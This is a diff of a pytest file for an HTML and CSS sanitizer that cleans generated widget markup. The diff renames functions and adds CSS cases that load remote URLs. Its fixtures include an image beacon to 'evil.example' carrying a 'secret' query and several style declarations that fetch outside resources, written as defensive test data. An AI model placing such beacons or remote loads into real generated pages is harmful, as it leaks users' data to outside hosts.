@@ -7,8 +7,7 @@ import pytest
 from copilot_admin.agent.client_functions.add_generative_widget import AddGenerativeWidget
 from copilot_admin.agent.client_functions.registry import Situation
 from copilot_admin.agent.client_functions.samples import FULL_QUERY
-from copilot_admin.agent.tools.clean_html import LONGEST, cleaned
-from copilot_admin.agent.tools.inline_styles import MOST_LENGTH, harmless_style
+from copilot_admin.agent.tools.html import MAX_CHARACTERS, clean_html, filter_style
 from copilot_admin.agent.tools.tool_arguments import ToolMistake
 from copilot_admin.agent.values.model_call import ToolCall
 from protocol.events import ArtifactType, MessageArtifact
@@ -35,7 +34,7 @@ from tests.agent.scripted import ScriptedProvider, call, text
     ],
 )  # fmt: skip
 def test_nothing_stays_that_runs_asks_or_calls_home(html, clean):
-    assert cleaned(html) == clean
+    assert clean_html(html) == clean
 
 
 PIXEL = "data:image/png;base64,iVBORw0KGgo="
@@ -66,7 +65,7 @@ ALLOWED = ("https://charts.example.com", "https://pictures.example:8443")
     ],
 )
 def test_an_image_from_elsewhere_is_not_loaded(html):
-    assert cleaned(html, sources=ALLOWED) == "<img>"
+    assert clean_html(html, sources=ALLOWED) == "<img>"
 
 
 @pytest.mark.parametrize(
@@ -99,11 +98,11 @@ def test_an_image_from_elsewhere_is_not_loaded(html):
     ],
 )
 def test_nothing_loads_by_itself(html):
-    assert "evil.example" not in cleaned(html, sources=ALLOWED)
+    assert "evil.example" not in clean_html(html, sources=ALLOWED)
 
 
 def test_what_browsers_without_scripts_would_load_is_text():
-    assert cleaned(f'<noscript><img src="{HOSTILE}"></noscript>') == (
+    assert clean_html(f'<noscript><img src="{HOSTILE}"></noscript>') == (
         '&lt;img src="https://evil.example/?q=secret"&gt;'
     )
 
@@ -112,17 +111,17 @@ def test_what_browsers_without_scripts_would_load_is_text():
     "address", [PIXEL, "https://charts.example.com/x?y=1", "https://pictures.example:8443/a/../b"]
 )
 def test_an_image_in_itself_or_from_where_the_builder_allows_is_shown(address):
-    assert cleaned(f'<img src="{address}">', sources=ALLOWED) == f'<img src="{address}">'
+    assert clean_html(f'<img src="{address}">', sources=ALLOWED) == f'<img src="{address}">'
 
 
 def test_a_link_that_people_choose_to_follow_stays():
     link = '<a href="https://example.org/x" rel="noopener noreferrer">x</a>'
-    assert cleaned(link) == link
+    assert clean_html(link) == link
 
 
 @pytest.mark.parametrize("address", ["data:text/html,x", " DA\tTA:text/html,x"])
 def test_a_link_that_holds_a_page_is_taken_out(address):
-    assert cleaned(f'<a href="{address}">x</a>') == '<a rel="noopener noreferrer">x</a>'
+    assert clean_html(f'<a href="{address}">x</a>') == '<a rel="noopener noreferrer">x</a>'
 
 
 CARD = (
@@ -133,7 +132,7 @@ CARD = (
 
 
 def test_a_card_comes_out_exactly_as_it_was_written():
-    assert cleaned(CARD) == CARD
+    assert clean_html(CARD) == CARD
 
 
 @pytest.mark.parametrize(
@@ -164,33 +163,27 @@ def test_a_card_comes_out_exactly_as_it_was_written():
         "color:",
         "@import 'x'",
         "p { color: red }",
-        f"color: {'calc(' * 9}1{')' * 9}",
+        "color: 'red; background: url(https://example.org/x)",
+        "background: image-set('https://example.org/x' 1x)",
+        "background: -webkit-image-set('https://example.org/x' 1x)",
+        "background: cross-fade('https://example.org/x', red)",
+        "background: linear-gradient(red, url(https://example.org/x))",
     ],
 )
 def test_a_style_that_loads_or_covers_something_is_taken_out_alone(declaration):
-    assert cleaned(f"<p style='{declaration.replace(chr(39), '&#39;')}'>x</p>") == "<p>x</p>"
-    kept = cleaned(f'<p style="color: red; {declaration}">x</p>')
+    assert clean_html(f"<p style='{declaration.replace(chr(39), '&#39;')}'>x</p>") == "<p>x</p>"
+    kept = clean_html(f'<p style="color: red; {declaration}">x</p>')
     assert kept == '<p style="color: red">x</p>'
 
 
-def test_what_stays_beside_something_taken_out_keeps_its_meaning():
+def test_other_declarations_stay_as_they_were_written():
     style = "Color: red !important ; position: fixed; font-family: 'A B' ,serif;"
-    assert harmless_style(style) == 'Color: red !important; font-family: "A B" ,serif'
+    assert filter_style(style) == "Color: red !important ; font-family: 'A B' ,serif;"
 
 
 @pytest.mark.parametrize("opening", ["(", "[", "{", "calc(", "a{", "/*", "\\", "url("])
-def test_no_depth_of_nesting_breaks_it(opening):
-    assert harmless_style(f"color: red; width: {opening * 1_500}") == "color: red"
-
-
-def test_style_with_a_number_that_python_does_not_read_is_left_out():
-    assert harmless_style(f"color: red; width: {'9' * 5000}px") is None
-
-
-def test_style_that_is_longer_than_any_design_is_left_out():
-    style = "color: red; ".ljust(MOST_LENGTH)
-    assert harmless_style(style) == style
-    assert harmless_style(f"{style} ") is None
+def test_deep_nesting_is_removed(opening):
+    assert filter_style(f"color: red; width: {opening * 1_500}") == "color: red"
 
 
 def shown(*script, **spec):
@@ -282,12 +275,12 @@ def boxed(html):
 )
 def test_what_has_styles_is_shown_in_a_box_of_its_own(styled):
     [artifact], _ = shown(call("html", name="S", description="", html=styled), text("See above."))
-    assert artifact.content == boxed(cleaned(styled))
-    assert "</div>" not in cleaned(styled)
+    assert artifact.content == boxed(clean_html(styled))
+    assert "</div>" not in clean_html(styled)
 
 
 def test_classes_of_the_page_around_it_mean_nothing_here():
-    assert cleaned('<p class="fixed inset-0 z-50" title="x">x</p>') == '<p title="x">x</p>'
+    assert clean_html('<p class="fixed inset-0 z-50" title="x">x</p>') == '<p title="x">x</p>'
 
 
 def widget(html, **spec):
@@ -311,4 +304,4 @@ def test_the_html_of_a_new_widget_is_cleaned_as_that_of_an_answer():
     assert widget('<p style="color: red">5</p>') == boxed('<p style="color: red">5</p>')
     assert "images from elsewhere" in widget(image)
     assert "Use fewer elements" in widget("<div>" * 5001)
-    assert "200000 characters at most" in widget("x" * (LONGEST + 1))
+    assert "200000 characters at most" in widget("x" * (MAX_CHARACTERS + 1))
